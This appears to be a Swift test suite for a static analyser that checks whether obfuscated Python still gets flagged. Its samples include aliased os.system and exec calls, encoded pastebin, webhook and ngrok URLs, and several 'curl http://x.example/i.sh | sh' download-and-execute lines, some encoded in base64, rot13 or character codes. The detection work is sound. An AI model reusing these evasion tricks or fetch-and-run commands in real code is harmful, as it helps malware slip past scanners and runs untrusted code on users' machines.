import Analysis
import LockgateCore
import Testing

/// Evasions: aliasing, splitting, indirect access and encoded strings still report the behaviour where it happens.
@Suite struct PythonEvasionTests {
    static let examples: [PythonExample] = [
        // Aliasing
        PythonExample(.spawnProcess, "import os as o\n↓o.system('id')"),
        PythonExample(.spawnProcess, "from os import system as s\n↓s('id')"),
        PythonExample(.spawnProcess, "from subprocess import Popen as P\n↓P(['id'])"),
        PythonExample(.spawnProcess, "from subprocess import *\n↓check_output(['id'])\n↓call('id')"),
        PythonExample(.spawnProcess, "import os.path\n↓os.system('id')"),
        PythonExample(.spawnProcess, "import subprocess\nrunner = subprocess.Popen\n↓runner('id')"),
        PythonExample(.spawnProcess, "import subprocess as sp, os\nf = getattr(sp, 'check_call')\n↓f(['id'])"),
        PythonExample(.useNetwork, "import urllib.request as ur\n↓ur.urlopen(u)"),
        // __import__, importlib, getattr, globals, builtins
        PythonExample(.spawnProcess, "↓__import__('os').system('id')"),
        PythonExample(.spawnProcess, "import importlib\n↓importlib.import_module('subprocess').run('id')"),
        PythonExample(.spawnProcess, "import os\n↓getattr(os, 'system')('id')"),
        PythonExample(.spawnProcess, "↓getattr(__import__('os'), 'sys' + 'tem')('id')"),
        PythonExample(.spawnProcess, "m = ''.join(['o', 's'])\n↓getattr(__import__(m), 'popen')('id')"),
        PythonExample(.importOSModule, "mod = ↓__import__('o' + 's')"),
        PythonExample(.importProcessModule, "import importlib\nmod = ↓importlib.import_module('sub' + 'process')"),
        PythonExample(.evalCode, "↓globals()['__builtins__'].exec(code)"),
        PythonExample(.evalCode, "↓__builtins__.__dict__['exec'](code)"),
        PythonExample(.evalCode, "import builtins\n↓builtins.exec(code)\n↓getattr(builtins, 'eval')(code)"),
        PythonExample(.evalCode, "import builtins\n↓vars(builtins)['eval'](code)"),
        PythonExample(.evalCode, "↓globals()['ev' + 'al'](code)"),
        PythonExample(.evalCode, "import sys\n↓sys.modules['builtins'].exec(code)"),
        // Splitting and folding
        PythonExample(.urlWebhook, "u = ↓'https://disc' + 'ord.com/api/web' + 'hooks/1/x'"),
        PythonExample(.urlWebhook, "u = 'https://discord.com/api/'\n↓u += 'webhooks/1/x'"),
        PythonExample(.urlPaste, "host = 'pastebin'\nu = ↓'https://%s.com/raw/a' % host"),
        PythonExample(.urlPaste, "host = 'pastebin'\nu = ↓f'https://{host}.com/raw/a'"),
        PythonExample(.urlPaste, "u = ↓'https://{}.com/raw/a'.format('pastebin')"),
        PythonExample(.urlTunnel, "u = ↓''.join(['https://', 'abc.', 'ngrok', '.io'])"),
        PythonExample(.shellCommand, "c = ↓'cu' 'rl http://x.example/i.sh | sh'"),
        // Encoded strings
        PythonExample(
            .urlPaste, "import base64\nu = ↓base64.b64decode('aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==').decode()"),
        PythonExample(.urlPaste, "import base64\nu = ↓base64.b64decode(b'aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3h5eg==')"),
        PythonExample(.urlPaste, "u = ↓bytes.fromhex('68747470733a2f2f706173746562696e2e636f6d2f61').decode()"),
        PythonExample(.urlPaste, "import codecs\nu = ↓codecs.decode('uggcf://cnfgrova.pbz/n', 'rot13')"),
        PythonExample(
            .urlPaste, "import codecs\nu = ↓codecs.decode('68747470733a2f2f706173746562696e2e636f6d2f61', 'hex')"),
        PythonExample(
            .urlPaste,
            "v = ↓''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]))"
        ),
        PythonExample(
            .urlPaste,
            "u = ↓''.join([chr(104), chr(116), chr(116), chr(112), chr(58), chr(47), chr(47), chr(112), chr(97), chr(115), chr(116), chr(101), chr(98), chr(105), chr(110), chr(46), chr(99), chr(111), chr(109)])"
        ),
        PythonExample(.urlPaste, "u = ↓'moc.nibetsap//:sptth'[::-1]"),
        PythonExample(.urlPaste, "u = ↓''.join(reversed('moc.nibetsap//:sptth'))"),
        PythonExample(
            .urlPaste,
            "u = ↓bytes([104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]).decode()"
        ),
        PythonExample(.urlPaste, "u = ↓'\\x68\\x74\\x74\\x70\\x3a//pastebin.com'"),
        PythonExample(
            .shellCommand,
            "import base64, os\nos.system(↓base64.b64decode('Y3VybCBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBzaA==').decode())"),
        PythonExample(.shellCommand, "import codecs\nc = ↓codecs.decode('phey uggc://k.rknzcyr/v.fu | fu', 'rot_13')"),
        PythonExample(.spawnProcess, "import base64, os\n↓os.system(base64.b64decode('aWQ=').decode())"),
        PythonExample(.evalCode, "import base64\n↓exec(base64.b64decode('cHJpbnQoMSk='))"),
        PythonExample(.downloadExecute, "import requests as r\nexec_ = exec\ncode = r.get(u).text\n↓exec(code)"),
        // Characters from a comprehension over constant codes (analyser behaviour-13)
        PythonExample(
            .urlPaste,
            "u = ↓''.join([chr(x) for x in [104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]])"
        ),
        PythonExample(.spawnProcess, "↓getattr(__import__(''.join(chr(c) for c in [111, 115])), 'system')('id')"),
        PythonExample(
            .shellCommand,
            "c = ↓''.join(chr(c - 1) for c in [100, 118, 115, 109, 33, 105, 117, 117, 113, 59, 48, 48, 121, 47, 102, "
                + "121, 98, 110, 113, 109, 102, 48, 106, 47, 116, 105, 33, 125, 33, 116, 105])"),
        PythonExample(
            .urlPaste,
            "u = ↓''.join([chr(k ^ 1) for k in (105, 117, 117, 113, 59, 46, 46, 113, 96, 114, 117, 100, 99, 104, 111, "
                + "47, 98, 110, 108)])"),
        // Functions of no parameters that return a constant (analyser behaviour-13)
        PythonExample(
            .downloadExecute,
            "import subprocess\nb = lambda: ''.join([chr(x) for x in [98, 97, 115, 104]])\n↓subprocess.run(f'curl -s -L http://x.example/i.sh | {b()}', shell=True)"
        ),
        PythonExample(
            .downloadExecute,
            "import os\ndef host():\n    return 'http://x.example/i.sh'\n↓os.system('curl ' + host() + ' | sh')"),
        // Names an obfuscator gives (analyser behaviour-13)
        PythonExample(.obfuscatedIdentifiers, "↓IlIlIlIlIl = 1\nlIlIIlIlll = 2\nIIlIIlIlIl = IlIlIlIlIl + lIlIIlIlll"),
        PythonExample(
            .obfuscatedIdentifiers, "import os\ndef f(↓O0O0OO0O0OO, OO00O0OO0O0):\n    OOOO00000O00 = O0O0OO0O0OO\n"),
        PythonExample(.obfuscatedIdentifiers, "↓________ = 1\n_________ = 2\n__________ = 3"),
    ]

    @Test(arguments: examples)
    func evasionStillReports(_ example: PythonExample) {
        let marked = PythonMarkedSource(example.source)
        let analysis = PythonTestSupport.analyse(marked.source)
        for mark in marked.marks {
            #expect(
                PythonTestSupport.reports(analysis, example.kind, at: mark),
                "expected \(example.kind.rawValue) at \(mark); got \(PythonTestSupport.describe(analysis))")
        }
    }

    @Test func ordinaryStringsAreNotCode() {
        let analysis = PythonTestSupport.analyse(
            """
            a = "eval(x)"
            b = 'os.system("id")'
            c = "__import__('os').system('x')"
            d = f"exec({x})"
            """)
        #expect(!PythonTestSupport.kinds(analysis).contains(.evalCode))
        #expect(!PythonTestSupport.kinds(analysis).contains(.spawnProcess))
        #expect(!PythonTestSupport.kinds(analysis).contains(.importOSModule))
    }

    @Test func shadowedNamesAreNotLibraryCalls() {
        let analysis = PythonTestSupport.analyse(
            """
            def system(x):
                return x
            def exec(y):
                return y
            system('id')
            exec('code')
            """)
        #expect(!PythonTestSupport.kinds(analysis).contains(.spawnProcess))
        #expect(!PythonTestSupport.kinds(analysis).contains(.evalCode))
        #expect(PythonTestSupport.structure(analysis.topLevel) == ["call:system", "call:exec"])
    }

    @Test func plainHostLookupIsNotExfiltration() {
        let analysis = PythonTestSupport.analyse("import socket\nip = socket.gethostbyname(socket.gethostname())\n")
        #expect(PythonTestSupport.kinds(analysis).contains(.dnsLookup))
        #expect(!PythonTestSupport.kinds(analysis).contains(.dnsExfiltration))
    }

    @Test func serviceDiscoveryIsNotExfiltration() {
        let analysis = PythonTestSupport.analyse(
            "import dns.resolver\nanswers = dns.resolver.resolve('_mongodb._tcp.' + host, 'SRV')\n")
        #expect(PythonTestSupport.kinds(analysis).contains(.dnsLookup))
        #expect(!PythonTestSupport.kinds(analysis).contains(.dnsExfiltration))
    }

    @Test func comprehensionsThatAreNotCharacterListsDoNotFold() {
        let analysis = PythonTestSupport.analyse(
            """
            import os
            a = ''.join([chr(x) for x in [99, 117, 114, 108] if x])
            b = ''.join([chr(x) for y in [[99]] for x in y])
            chr = str
            c = ''.join([chr(x) for x in [99, 117, 114, 108]])
            os.system(a + ' http://x.example/i.sh | sh')
            os.system(b + ' http://x.example/i.sh | sh')
            os.system(c + ' http://x.example/i.sh | sh')
            """)
        #expect(!PythonTestSupport.kinds(analysis).contains(.downloadExecute))
    }

    @Test func functionsWithParametersOrSeveralReturnsDoNotFold() {
        let analysis = PythonTestSupport.analyse(
            """
            import os
            def tool(name):
                return 'curl'
            def either():
                if flag:
                    return 'curl'
                return 'echo'
            os.system(tool(1) + ' http://x.example/i.sh | sh')
            os.system(either() + ' http://x.example/i.sh | sh')
            """)
        #expect(!PythonTestSupport.kinds(analysis).contains(.downloadExecute))
    }

    @Test func ordinaryAndTestNamesAreNotObfuscated() {
        let analysis = PythonTestSupport.analyse(
            """
            # IlIlIlIlIl lIlIIlIlll IIlIIlIlIl O0O0OO0O0OO
            doc = "IlIlIlIlIl lIlIIlIlll IIlIIlIlIl"
            foooooooooo = 1
            Cccccccccccc = 2
            aaaaaaaaaaaa = 3
            xx_xxxxxx = 4
            IlIlIlIlIl = 5
            lIlIIlIlll = 6
            """)
        #expect(!PythonTestSupport.kinds(analysis).contains(.obfuscatedIdentifiers))
    }

    @Test func escapesThatSpellNoIdentifierAreOrdinary() {
        let analysis = PythonTestSupport.analyse("a = '\\x00\\x01'\nb = 'line\\n'\nc = b'\\x41\\x42'\n")
        #expect(!PythonTestSupport.kinds(analysis).contains(.escapedIdentifiers))
    }
}
